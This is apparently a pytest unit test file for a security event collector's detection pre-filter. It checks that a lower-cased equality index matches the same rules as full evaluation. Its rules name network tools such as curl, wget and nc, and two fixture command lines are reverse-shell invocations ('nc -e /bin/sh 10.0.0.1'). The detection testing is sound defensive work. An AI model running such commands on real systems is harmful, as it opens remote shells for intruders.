"""Whole values (no wildcard) reach the pre-filter as equality tests answered by a dict lookup of the
field's lower-cased text; the lookup must agree with the rule's own test whatever shape the value has
in the event (case, numbers, lists, flat dotted keys), or it would skip a rule that matches."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from collector.detection import DetectionEngine
from collector.detection.event_view import EventView
from collector.detection.prefilter import RouteIndex
from collector.detection.requirements import CONTAINS, EQUALS
from tests.unit.collector.detection.detection_helpers import (
    engine_for,
    engine_for_titled,
    process_event,
    rule_text,
)

RULES = {
    "exact": "sel:\n  process.name: CURL\ncondition: sel",
    "cased": "sel:\n  process.name|cased: Curl\ncondition: sel",
    "contains": "sel:\n  process.name|contains: url\ncondition: sel",
    "exact url": "sel:\n  process.name: url\ncondition: sel",
    "number as text": "sel:\n  process.pid: '4242'\ncondition: sel",
    "list element": "sel:\n  process.args: '-C'\ncondition: sel",
    "mixed list": "sel:\n  process.name:\n    - wget\n    - '*cat'\ncondition: sel",
    "exact and contains": "a:\n  process.name: nc\nb:\n  process.command_line|contains: ' -e '\n"
    "condition: a and b",
}

pytestmark = pytest.mark.usefixtures("prefilter_native")  # each test runs on both implementations


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory, prefilter_native: bool) -> DetectionEngine:
    return engine_for_titled(tmp_path_factory.mktemp("equals"), RULES)


def _matched(engine: DetectionEngine, event: dict[str, Any]) -> list[str]:
    found = [match.rule.title for match in engine.match(event)]
    # the pre-filtered answer is exactly what evaluating every rule of the route gives
    route = engine.rules_of_route("process_creation")
    every = [rule.title for rule in route if rule.matcher(EventView(event))]
    assert found == every, event
    return found


def test_whole_values_become_equality_tests(engine: DetectionEngine) -> None:
    requirement = {rule.title: rule.requirement for rule in engine.rules}
    assert requirement["exact"] == (frozenset({("process.name", "curl", EQUALS)}),)
    assert requirement["cased"] == (frozenset({("process.name", "curl", EQUALS)}),)  # lowered for the index
    assert requirement["contains"] == (frozenset({("process.name", "url", CONTAINS)}),)
    assert requirement["mixed list"] == (
        frozenset({("process.name", "wget", EQUALS), ("process.name", "cat", CONTAINS)}),
    )


@pytest.mark.parametrize(
    ("process", "expected"),
    [
        ({"name": "curl"}, ["exact", "contains"]),
        ({"name": "CuRl"}, ["exact", "contains"]),  # an index on the raw text would miss both
        ({"name": "Curl"}, ["exact", "cased", "contains"]),
        ({"name": "curl2"}, ["contains"]),  # equality is not containment...
        ({"name": "url"}, ["contains", "exact url"]),  # ...and one literal may be both, for two rules
        ({"name": "xcurl"}, ["contains"]),
        ({"name": ["sh", "CURL"]}, ["exact", "contains"]),  # any element of a list
        ({"pid": 4242}, ["number as text"]),  # an integer in the event equals the text '4242'
        ({"pid": 4243}, []),
        ({"args": ["ls", "-c"]}, ["list element"]),
        ({"args": ["ls", "-cx"]}, []),
        ({"name": "WGET"}, ["mixed list"]),
        ({"name": "zcat"}, ["mixed list"]),
        ({"name": "wget2"}, []),
        ({"name": "NC", "command_line": "nc -e /bin/sh 10.0.0.1"}, ["exact and contains"]),
        ({"name": "ncat", "command_line": "ncat -e /bin/sh 10.0.0.1"}, ["mixed list"]),
    ],
)
def test_equality_index_agrees_with_the_rules(
    engine: DetectionEngine, process: dict[str, Any], expected: list[str]
) -> None:
    fields = {"pid": 1, **process}  # a copy: the parameters are shared by both implementations' runs
    assert _matched(engine, process_event(**fields)) == expected


def test_flat_dotted_key_is_looked_up_too(engine: DetectionEngine) -> None:
    event = process_event()
    event["process.name"] = "CURL"  # a producer that sends flat keys: the rule still sees the value
    del event["process"]
    assert _matched(engine, event) == ["exact", "contains"]


def test_equality_rule_is_skipped_only_when_it_cannot_match(tmp_path: Path) -> None:
    engine = engine_for(tmp_path, rule_text("sel:\n  process.executable: /usr/bin/id\ncondition: sel"))
    index = RouteIndex(engine.rules_of_route("process_creation"))
    assert index.prefiltered_count == 1
    assert list(index.candidates(EventView(process_event(executable="/usr/bin/idx")))) == []
    assert list(index.candidates(EventView(process_event(executable="/usr/bin/ids")))) == []
    found = index.candidates(EventView(process_event(executable="/USR/bin/ID")))
    assert [rule.title for rule in found] == ["test rule"]
